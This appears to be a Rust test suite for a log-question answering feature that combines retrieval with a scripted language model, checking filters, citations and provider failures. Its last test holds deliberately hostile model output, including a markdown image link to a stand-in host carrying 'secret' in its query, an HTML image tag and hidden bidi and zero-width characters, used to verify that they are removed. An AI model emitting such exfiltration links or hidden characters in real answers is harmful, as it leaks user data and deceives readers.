use std::collections::BTreeMap;
use std::sync::Mutex;

use atlas_domain::{Corpus, Filter, Timestamp};
use atlas_llm::{ProviderError, ProviderErrorKind};
use atlas_retrieval::Matches;
use atlas_testkit::scripted_model::Turn;
use serde_json::{Value, json};

use super::demo;
use crate::testing::Bench;
use crate::{AnsweredBy, AskAnswer, AskProgress, AskRequest, FeatureError, Field, LogLine, ModelPart};

async fn ask(bench: &Bench, request: AskRequest) -> Result<(AskAnswer, Vec<AskProgress>), FeatureError> {
    let seen = Mutex::new(Vec::new());
    let progress = |stage| seen.lock().expect("not poisoned").push(stage);
    let answer = bench.features.ask().answer(&bench.scope, request, progress).await?;
    Ok((answer, seen.into_inner().expect("not poisoned")))
}

fn without_model(question: &str) -> AskRequest {
    AskRequest { with_model: false, ..AskRequest::new(question) }
}

async fn demo(bench: &Bench) -> Timestamp {
    let now = Timestamp::now();
    demo::load(bench, now).await;
    now
}

fn line(message: String) -> LogLine {
    let (service, attributes) = (Some("datanode".into()), BTreeMap::new());
    LogLine { at: None, message, level: None, service, source: None, attributes }
}

fn says(answered: bool, sentences: Value) -> Turn {
    Turn::says([json!({"answered": answered, "sentences": sentences}).to_string().as_str()])
}

fn sentence(text: &str, id: &str, quote: &str) -> Value {
    json!({"text": text, "citations": [{"evidence_id": id, "quote": quote}]})
}

#[tokio::test]
async fn what_a_question_says_filters_what_is_found() {
    let bench = Bench::new();
    demo(&bench).await;
    let request = without_model("why has checkout no free connection in the last 2 hours?");
    let (answer, stages) = ask(&bench, request).await.expect("an answer");
    assert_eq!(answer.understood.values(Field::Service).collect::<Vec<_>>(), ["checkout"]);
    assert_eq!(answer.filter.service, ["checkout"]);
    assert!(answer.filter.since.is_some());
    assert_eq!((answer.answered_by, &answer.model), (AnsweredBy::Retrieval, &ModelPart::NotAsked));
    assert!(!answer.passages.is_empty());
    assert!(answer.passages.iter().all(|passage| answer.filter.matches(&passage.facets)));
    assert_eq!(answer.passages[0].evidence_id, "P1");
    assert!(matches!(stages[..], [AskProgress::Understood { .. }, AskProgress::Found { .. }]), "{stages:?}");
    assert!(bench.model.requests().is_empty());
    serde_json::to_value(&answer).expect("JSON");
}

#[tokio::test]
async fn edited_conditions_take_the_place_of_those_that_were_said() {
    let bench = Bench::new();
    demo(&bench).await;
    let filter = Filter { service: vec!["payments".into()], ..Filter::default() };
    let request = AskRequest {
        filter: Some(filter.clone()),
        query: Some("timeouts".into()),
        ..without_model("what fails in checkout today?")
    };
    let (answer, _) = ask(&bench, request).await.expect("an answer");
    assert_eq!((&answer.filter, answer.query.as_str()), (&filter, "timeouts"));
    assert!(answer.passages.iter().all(|passage| passage.facets.service.as_deref() == Some("payments")));
    assert_eq!(answer.understood.values(Field::Service).collect::<Vec<_>>(), ["checkout"], "still shown");
}

#[tokio::test]
async fn only_conditions_list_the_newest_of_what_they_leave() {
    let bench = Bench::new();
    demo(&bench).await;
    let (answer, _) = ask(&bench, without_model("show all critical alerts of today and yesterday"))
        .await
        .expect("an answer");
    let (answer_of_kind, _) =
        ask(&bench, without_model("list the critical alerts")).await.expect("an answer");
    for answer in [answer_of_kind, answer] {
        assert_eq!((answer.query.as_str(), answer.matches), ("", Matches::Good), "{answer:#?}");
        assert!(answer.passages.iter().all(|passage| passage.key.corpus == Corpus::Alerts));
        assert!(answer.passages.is_sorted_by(|a, b| a.facets.at >= b.facets.at));
    }
}

#[tokio::test]
async fn since_the_deploy_is_the_latest_change_of_the_service() {
    let bench = Bench::new();
    let now = demo(&bench).await;
    let (answer, _) =
        ask(&bench, without_model("timeouts in checkout since the last deploy")).await.expect("an answer");
    let since = answer.filter.since.expect("a time");
    // The demo's change of checkout: 1512 s before now, by Argo CD.
    assert!((now.as_second() - since.as_second() - 1512).abs() <= 1, "{since}");
    let request = AskRequest { deployed_at: Some(now), ..without_model("timeouts since the deploy") };
    let (answer, _) = ask(&bench, request).await.expect("an answer");
    assert_eq!(answer.filter.since, Some(now), "the caller knows better");
}

#[tokio::test]
async fn nothing_matches_is_an_answer_that_says_what_to_widen() {
    let bench = Bench::scripted([]);
    demo(&bench).await;
    let request = AskRequest::new("pool timeout: no free connection, for service checkout, on 2019-01-05");
    let (answer, _) = ask(&bench, request).await.expect("an answer");
    assert_eq!((answer.matches, answer.answered_by), (Matches::None, AnsweredBy::Retrieval));
    assert!(answer.answer.starts_with("nothing matches"), "{}", answer.answer);
    assert_eq!(answer.widen[0].without, "time", "{:?}", answer.widen);
    assert!(answer.filter.since.is_some() && answer.filter.service == ["checkout"]);
    let (answer, _) = ask(&bench, AskRequest::new("what happened on 2019-01-05?")).await.expect("an answer");
    assert_eq!((answer.matches, answer.widen.len()), (Matches::None, 1), "{answer:#?}");
    assert!(bench.model.requests().is_empty(), "a model cannot answer from nothing");
}

#[tokio::test]
async fn an_id_that_no_record_has_matches_nothing_and_one_that_is_there_comes_first() {
    let bench = Bench::new();
    let lines = (0..30)
        .map(|n| line(format!("received block blk_-77120{n:02} of size 67108864 from node {n}")))
        .collect();
    bench.features.logs().ingest(&bench.scope, lines).await.expect("logs");
    bench.retrieval.settled(&bench.scope).await.expect("caught up");
    let (answer, _) =
        ask(&bench, without_model("what was the size of block blk_-7712017?")).await.expect("an answer");
    assert_eq!(answer.passages[0].contains, ["blk_-7712017"]);
    assert_ne!(answer.matches, Matches::None);
    let (answer, _) =
        ask(&bench, without_model("what was the size of block blk_-771201?")).await.expect("an answer");
    assert_eq!(answer.matches, Matches::None, "the begin of another id is not it: {:#?}", answer.passages[0]);
}

const QUESTION: &str = "why is there no free connection in the pool of checkout?";

/// The first passage of the question, and a quotation of it.
async fn first_passage(bench: &Bench) -> (String, String) {
    let (answer, _) = ask(bench, without_model(QUESTION)).await.expect("an answer");
    let passage = &answer.passages[0];
    let quote = passage.text.split_whitespace().take(8).collect::<Vec<_>>().join(" ");
    (passage.evidence_id.clone(), quote)
}

#[tokio::test]
async fn a_models_sentences_stand_as_far_as_they_quote() {
    let probe = Bench::new();
    demo(&probe).await;
    let (id, quote) = first_passage(&probe).await;
    let said = json!([
        sentence("The pool is empty.", &id, &quote),
        sentence("The moon is full.", &id, "the moon over the data centre is full"),
        {"text": "It has to be restarted.", "citations": []},
    ]);
    let bench = Bench::scripted([says(true, said)]);
    demo(&bench).await;
    let (answer, stages) = ask(&bench, AskRequest::new(QUESTION)).await.expect("an answer");
    assert_eq!(answer.answered_by, AnsweredBy::Model, "{answer:#?}");
    assert_eq!((answer.answer.as_str(), answer.sentences.len()), ("The pool is empty.", 1));
    assert_eq!((answer.dropped_citations, answer.dropped_sentences), (1, 2));
    assert!(
        matches!(&answer.model, ModelPart::Answered { served_by, .. } if served_by.provider == "scripted")
    );
    assert_eq!(stages[2..], [AskProgress::Asking, AskProgress::Validating]);
    let asked = &bench.model.requests()[0];
    assert!(asked.output.schema().is_some());
    let user = asked.messages[1].text();
    assert!(user.contains("\"service\":[\"checkout\"]"), "the conditions are shown: {user}");
    let marker = user.split("<<< begin ").nth(1).and_then(|rest| rest.split(' ').next()).expect("a marker");
    assert!(asked.messages[0].text().contains(marker));
    assert_eq!(user.matches(&format!("<<< begin {marker}")).count(), answer.passages.len() + 2);
    assert_eq!(user.matches(&format!(">>> end {marker}")).count(), answer.passages.len() + 2);
}

#[tokio::test]
async fn a_model_without_an_answer_leaves_the_passages() {
    let invented = json!([sentence("It is DNS.", "P1", "a resolver that nobody ever logged")]);
    for turn in [says(false, json!([])), says(true, invented)] {
        let bench = Bench::scripted([turn]);
        demo(&bench).await;
        let (answer, _) = ask(&bench, AskRequest::new(QUESTION)).await.expect("an answer");
        assert_eq!(answer.answered_by, AnsweredBy::Retrieval);
        assert!(matches!(answer.model, ModelPart::NoAnswer { .. }), "{:?}", answer.model);
        assert!(!answer.passages.is_empty() && answer.sentences.is_empty());
    }
}

#[tokio::test]
async fn a_provider_that_is_down_leaves_the_passages_and_says_why() {
    for (kind, code) in [
        (ProviderErrorKind::Credentials, "provider_credentials"),
        (ProviderErrorKind::PromptTooLong, "prompt_too_long"),
    ] {
        let refusals = (0..8).map(|_| Turn::refuses(ProviderError::new(kind, "no")));
        let bench = Bench::scripted(refusals);
        demo(&bench).await;
        let (answer, _) = ask(&bench, AskRequest::new(QUESTION)).await.expect("an answer");
        assert_eq!(answer.answered_by, AnsweredBy::Retrieval);
        let ModelPart::Unavailable { code: said, .. } = answer.model else { panic!("{:?}", answer.model) };
        assert_eq!(said, code);
        assert!(!answer.passages.is_empty());
    }
}

#[tokio::test]
async fn what_cannot_be_asked_is_refused_by_its_field() {
    let bench = Bench::new();
    let good = || without_model("x");
    let requests = [
        ("question", AskRequest { question: " ".into(), ..good() }),
        ("question", AskRequest { question: "x".repeat(9_000), ..good() }),
        ("corpora", AskRequest { corpora: vec![Corpus::LogTemplates], ..good() }),
        ("limit", AskRequest { limit: 0, ..good() }),
        ("utc_offset", AskRequest { utc_offset: Some("Berlin".into()), ..good() }),
    ];
    for (expect, request) in requests {
        let error = ask(&bench, request).await.expect_err("refused");
        let FeatureError::Invalid { field, hint, .. } = error else { panic!("{error}") };
        assert!(field == expect && !hint.is_empty(), "{field}");
    }
}

#[tokio::test]
async fn what_a_model_adds_to_its_words_is_taken_out_and_hidden_signs_are_no_quotation() {
    let hostile = "orders: no free connection\u{202e} after 3 s, see https://bait.test/p";
    let quote = "no free connection after 3 s";
    let sentences = json!([
        sentence("Full. ![x](https://evil.test/?q=secret)", "P1", quote),
        sentence("<img src=//evil.test/x>\u{200b}It waits.", "P1", "no free\n connection after 3 s"),
        sentence("As told at https://bait.test/p", "P1", quote),
        sentence("\u{202e}\u{200b}", "P1", quote),
        sentence("It is DNS.", "P1", "no free connection\u{202e} after 3 s"),
    ]);
    let bench = Bench::scripted([says(true, sentences)]);
    let lines = vec![line(hostile.to_owned())];
    bench.features.logs().ingest(&bench.scope, lines).await.expect("kept");
    bench.retrieval.settled(&bench.scope).await.expect("caught up");
    let (answer, _) =
        ask(&bench, AskRequest::new("why is there no free connection?")).await.expect("an answer");
    let texts: Vec<&str> = answer.sentences.iter().map(|sentence| sentence.text.as_str()).collect();
    let expect =
        ["Full. [x] [link removed]", "img src=[link removed] waits.", "As told at https://bait.test/p"];
    assert_eq!(texts, expect);
    assert_eq!((answer.dropped_citations, answer.dropped_sentences), (1, 2));
    assert!(answer.sentences.iter().all(|sentence| sentence.citations[0].quote == quote));
    let whole = serde_json::to_string(&answer).expect("JSON");
    assert!(!whole.contains("evil") && !whole.contains(['\u{202e}', '\u{200b}']), "{whole}");
}
